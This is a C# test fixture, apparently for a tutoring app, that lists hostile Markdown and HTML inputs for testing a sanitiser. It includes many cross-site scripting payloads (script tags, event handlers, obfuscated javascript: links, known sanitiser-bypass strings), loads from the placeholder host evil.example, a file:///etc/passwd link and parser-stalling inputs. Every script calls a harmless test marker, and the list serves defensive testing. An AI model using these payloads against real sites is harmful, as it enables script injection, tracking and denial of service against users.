namespace Tutor.Tests.Shared.Markdown;

/// <summary>Markdown and HTML made to run a script, to load from elsewhere or to look like a part of the page. Every script calls <c>hit()</c>.</summary>
internal static class HostileMarkdown
{
    private const string Run = "window.hit&&hit()";

    private static readonly string[] html =
    [
        $"<script>{Run}</script>", $"<SCRIPT\n>{Run}</SCRIPT>", $"<script src=https://evil.example/x.js></script>", $"<img src=x onerror={Run}>", $"<img src='https://evil.example/p.png'>",
        $"<svg onload={Run}>", $"<svg><script>{Run}</script></svg>", $"<svg><a xlink:href='javascript:{Run}'><text y=20>go</text></a></svg>", $"<math><mtext><script>{Run}</script></mtext></math>",
        $"<iframe src='javascript:{Run}'></iframe>", $"<iframe srcdoc='<script>parent.{Run}</script>'></iframe>", $"<object data='javascript:{Run}'></object>", $"<embed src='https://evil.example/e'>",
        $"<details open ontoggle={Run}>x</details>", $"<video src=x onerror={Run}></video>", $"<audio><source src=x onerror={Run}></audio>", $"<body onload={Run}>", $"<input autofocus onfocus={Run}>",
        $"<marquee onstart={Run}>x</marquee>", $"<form action='https://evil.example'><button formaction='javascript:{Run}'>go</button></form>", $"<a href='javascript:{Run}'>go</a>",
        $"<a href='&#106;avascript:{Run}'>go</a>", $"<a href=\"java\tscript:{Run}\">go</a>", $"<div style='background:url(https://evil.example/b.png)'>x</div>", "<style>@import 'https://evil.example/s.css';</style>",
        "<link rel=stylesheet href=https://evil.example/s.css>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>", $"<p onmouseover={Run}>x</p>",
        $"<template><script>{Run}</script></template>", $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\"></noscript>", $"<!--><img src=x onerror={Run}>-->", $"<![CDATA[<script>{Run}</script>]]>",
        $"<?xml-stylesheet href=\"javascript:{Run}\"?>", $"<textarea></textarea><img src=x onerror={Run}>", $"<button popovertarget=x onclick={Run}>x</button>", $"<dialog open onclose={Run}>x</dialog>",
        $"<table background='https://evil.example/t.png'><tr><td>x</td></tr></table>", $"<x onclick={Run} tabindex=1>x</x>",
    ];

    private static readonly string[] addresses =
    [
        $"javascript:{Run}", $"JaVaScRiPt:{Run}", $"javascript&colon;{Run}", $"&#106;avascript:{Run}", $"&#x6A;avascript:{Run}", $"java&Tab;script:{Run}", $" javascript:{Run}", $"javascript://x%0a{Run}",
        $"vbscript:{Run}", $"data:text/html,<script>{Run}</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "file:///etc/passwd", "blob:https://evil.example/1", "//evil.example/x",
        "\\\\evil.example\\x", $"javascript:{Run}//https://ok.example", "feed:javascript:hit()", $"&#0000106avascript:{Run}", $"view-source:javascript:{Run}", $"javascript:{Run}\\\"onclick=\\\"{Run}",
    ];

    private static readonly Func<string, string>[] places =
    [
        t => t, t => $"Some words {t} and more.", t => $"- one\n- {t}\n- three", t => $"> {t}", t => $"| a | b |\n|---|---|\n| {t.Replace('\n', ' ')} | x |", t => $"## {t}", t => $"[{t}](https://ok.example)", t => $"**{t}**",
    ];

    private static readonly Func<string, string>[] links =
    [
        a => $"[go]({a})", a => $"[go](<{a}>)", a => $"[go]({a} \"title\")", a => $"<{a}>", a => $"![picture]({a})", a => $"[go][1]\n\n[1]: {a}", a => $"![p][1]\n\n[1]: <{a}> 'x'",
    ];

    // Breaking out of attributes, generic attributes, and what sanitisers have been beaten with.
    private static readonly string[] own =
    [
        $"[go](https://ok.example \"x\" onmouseover=\"{Run}\")", $"[go](https://ok.example '\" onmouseover=\"{Run}')", $"[go](https://ok.example){{onclick={Run}}}", $"# Title {{onclick={Run}}}", $"text {{style=\"background:url(https://evil.example)\"}}",
        $"```html\" onmouseover=\"{Run}\ncode\n```", $"``` <img src=x onerror={Run}>\ncode\n```", $"`<img src=x onerror={Run}>`", $"~~~<script>{Run}</script>\nx", $"![<img src=x onerror={Run}>](https://evil.example/i.png)",
        "![track](https://evil.example/i.png?who=me)", $"<https://ok.example/\"onmouseover=\"{Run}>", $"www.ok.example/\"onmouseover=\"{Run}", $"https://ok.example/'onmouseover='{Run}", $"[a](b\"onmouseover=\"{Run})",
        $"<svg/onload={Run}//", $"<<script>{Run}//<</script>", $"<scr<script>ipt>{Run}</scr</script>ipt>", $"<img src=\"x` `<script>{Run}</script>\"` `>", $"<a href=\"https://ok.example\"\u200bonclick={Run}>x</a>",
        $"<math><mi//xlink:href=\"data:x,<script>{Run}</script>\">", $"<form><math><mtext></form><form><mglyph><style></math><img src onerror={Run}>", $"<svg></p><style><a id=\"</style><img src=1 onerror={Run}>\">",
        $"<p id=\"main\" class=\"top-bar\">looks like the page</p>", "[x](https://ok.example){.btn #main}", "<div class=\"modal-dialog-native\" open>fake</div>",
    ];

    public static IReadOnlyList<string> All { get; } =
    [
        .. from payload in html from place in places select place(payload),
        .. from address in addresses from link in links select link(address),
        .. own,
    ];

    /// <summary>Inputs that parsers are known to spend much time on, or to give up on.</summary>
    public static IReadOnlyList<(string Name, string Text)> Pathological { get; } =
    [
        ("1,000 open brackets", new string('[', 1000)), ("200 quotations", string.Concat(Enumerable.Repeat("> ", 200)) + "x"), ("16 KiB of open links", Repeat("[a](", 16 * 1024)),
        ("16 KiB of open pictures", Repeat("![a](", 16 * 1024)), ("16 KiB of emphasis", Repeat("*a_", 16 * 1024)), ("16 KiB of list numbers", Repeat("1. ", 16 * 1024)), ("16 KiB of backticks of growing length", Ticks()),
        ("16 KiB of open tags", Repeat("<a ", 16 * 1024)), ("100 KB of emphasis", Repeat("**a ", 100_000)), ("4 MB of list", Repeat("- a\n", 4_000_000)), ("64 KiB of pipes", Repeat("|a", 64 * 1024)),
        ("16 KiB of references", string.Concat(Enumerable.Range(0, 900).Select(i => $"[r{i}]: /u{i}\n")) + Repeat("[r1][r2]", 4000)),
    ];

    private static string Repeat(string unit, int length) => string.Concat(Enumerable.Repeat(unit, length / unit.Length));

    private static string Ticks() => string.Concat(Enumerable.Range(1, 170).Select(n => new string('`', n) + "a"));
}
